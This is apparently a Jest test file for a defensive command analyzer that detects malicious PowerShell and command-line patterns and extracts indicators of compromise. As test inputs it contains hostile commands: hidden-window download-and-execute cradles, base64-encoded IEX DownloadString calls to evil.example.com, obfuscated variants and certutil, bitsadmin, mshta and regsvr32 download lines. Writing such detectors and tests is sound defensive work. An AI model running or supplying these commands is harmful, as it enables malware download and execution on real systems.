import { analyzeCommand } from '../../../src/domain/command-analysis';

const ids = (c: string) => analyzeCommand(c).findings.map((f) => f.id);
const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('analyzeCommand', () => {
  test('the flagship command: bypass, no profile, hidden window, download cradle, process start; the download IP and URL', () => {
    const r = analyzeCommand(
      `powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -Command "(New-Object Net.WebClient).DownloadFile('http://203.0.113.45/update.exe','C:\\Users\\Public\\update.exe'); Start-Process C:\\Users\\Public\\update.exe"`,
    );
    expect(r.decoded).toBeNull();
    // Issue 21: a download then a Start-Process of the downloaded file is also download-and-execute.
    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'hidden-window', 'no-profile', 'download-cradle', 'process-start', 'download-and-execute']);
    expect(r.findings[0]).toEqual({ id: 'execution-policy-bypass', evidence: '-ExecutionPolicy Bypass', mitre: 'T1059.001', layer: 'cmd' });
    expect(r.iocs).toEqual({ ips: ['203.0.113.45'], urls: ['http://203.0.113.45/update.exe'], domains: [], hashes: [] });
  });

  test.each(['-e', '-ec', '-enc', '-EncodedCommand', '/enc', '–enc', '-En'])('decodes %s (base64 of UTF-16LE) and analyzes the script', (flag) => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";
    const r = analyzeCommand(`powershell ${flag} ${utf16b64(script)}`);
    expect(r.decoded).toBe(script);
    // IEX of a DownloadString is also download-and-execute (issue 21).
    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'download-cradle', 'invoke-expression', 'download-and-execute']);
    expect(r.iocs.urls).toEqual(['http://evil.example.com/a.ps1']);
    expect(r.iocs.domains).toEqual(['evil.example.com']);
  });

  test.each([
    ['-ep bypass', 'execution-policy-bypass'],
    ['-exec Bypass', 'execution-policy-bypass'],
    ['-ex unrestricted', 'execution-policy-bypass'],
    ['/ExecutionPolicy:Bypass', 'execution-policy-bypass'],
    ['-nop', 'no-profile'],
    ['-NoP', 'no-profile'],
    ['-w hidden', 'hidden-window'],
    ['-w 1', 'hidden-window'],
    ['-win Hidden', 'hidden-window'],
  ])('resolves the abbreviated switch %s', (switches, id) => {
    expect(ids(`powershell.exe ${switches} -c "Get-Date"`)).toEqual([id]);
  });

  test('does not flag -ExecutionPolicy RemoteSigned or -WindowStyle Normal', () => {
    expect(ids('powershell -ExecutionPolicy RemoteSigned -WindowStyle Normal -File x.ps1')).toEqual([]);
  });

  test('undoes caret and backtick obfuscation', () => {
    expect(ids('p^o^w^e^r^s^h^e^l^l -e^p b^y^p^a^s^s -c "I`E`X (i`wr http://198.51.100.7/x)"')).toEqual([
      'execution-policy-bypass',
      'download-cradle',
      'invoke-expression',
      'download-and-execute',
    ]);
  });

  test.each([
    ['Invoke-WebRequest -Uri http://x.com/a -OutFile a', 'download-cradle'],
    ['irm http://x.com/a | iex', 'download-cradle'],
    ['curl http://x.com/a -o a', 'download-cradle'],
    ['wget http://x.com/a', 'download-cradle'],
    ['Start-BitsTransfer -Source http://x.com/a -Destination a', 'download-cradle'],
    ['Invoke-Expression $x', 'invoke-expression'],
    ['certutil.exe -urlcache -split -f http://bad.ru/x.exe c:\\x.exe', 'lolbin-download'],
    ['bitsadmin /transfer job http://bad.ru/x.exe c:\\x.exe', 'lolbin-download'],
    ['mshta https://bad.top/x.hta', 'lolbin-download'],
    ['regsvr32 /s /n /u /i:http://x.com/f.sct scrobj.dll', 'lolbin-download'],
    ['Start-Process notepad.exe', 'process-start'],
    ['[Diagnostics.Process]::Start("calc.exe")', 'process-start'],
  ])('%s → %s', (command, id) => {
    expect(ids(command)).toContain(id);
  });

  test('a plain command has no findings and no IOCs', () => {
    expect(analyzeCommand('C:\\Windows\\System32\\svchost.exe -k netsvcs -p')).toEqual({
      decoded: null,
      findings: [],
      iocs: { ips: [], urls: [], domains: [], hashes: [] },
    });
  });

  test('extracts IPv4, IPv6, URLs, domains and MD5/SHA1/SHA256 hashes, deduplicated', () => {
    const md5 = '44d88612fea8a8f36de82e1278abb02f';
    const sha1 = '3395856ce81f2b7382dee72602f798b642f14140';
    const sha256 = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
    const r = analyzeCommand(
      `cmd /c echo ${md5} ${sha1} ${sha256.toUpperCase()} ${sha256} 10.1.2.3 10.1.2.3 2001:db8::7 http://Evil.Example.com/x http://evil.example.com/x update.exe Net.WebClient [System.Net.WebClient]::new() contoso.com`,
    );
    expect(r.iocs.ips).toEqual(['10.1.2.3', '2001:db8::7']);
    expect(r.iocs.urls).toEqual(['http://Evil.Example.com/x', 'http://evil.example.com/x']);
    expect(r.iocs.domains).toEqual(['evil.example.com', 'contoso.com']);
    expect(r.iocs.hashes).toEqual([md5, sha1, sha256]);
  });

  test('not base64 after -enc: the finding stays, decoded is null', () => {
    const r = analyzeCommand('powershell -enc !!!notbase64');
    expect(r.decoded).toBeNull();
    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command']);
  });

  test('nested: cmd /c powershell -enc with a script that runs powershell -w hidden', () => {
    const inner = 'powershell -w hidden -c "Start-Process calc.exe"';
    const r = analyzeCommand(`cmd.exe /c powershell.exe -nop -enc ${utf16b64(inner)}`);
    expect(r.decoded).toBe(inner);
    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'hidden-window', 'no-profile', 'process-start']);
  });
});

describe('IOCs with defanging undone (issue 21)', () => {
  test.each([
    ['hxxp://evil[.]example[.]com/x.ps1', 'http://evil.example.com/x.ps1', 'evil.example.com'],
    ['hxxps[:]//203.0.113[.]45/a', 'https://203.0.113.45/a', undefined],
    ['http[://]bad(.)ru/p', 'http://bad.ru/p', 'bad.ru'],
  ])('%s → %s', (defanged, url, domain) => {
    const { iocs } = analyzeCommand(`echo ${defanged}`);
    expect(iocs.urls).toEqual([url]);
    if (domain) expect(iocs.domains).toEqual([domain]);
  });

  test('a defanged bare IP is an IP', () => {
    expect(analyzeCommand('ping 198.51.100[.]7').iocs.ips).toEqual(['198.51.100.7']);
  });
});
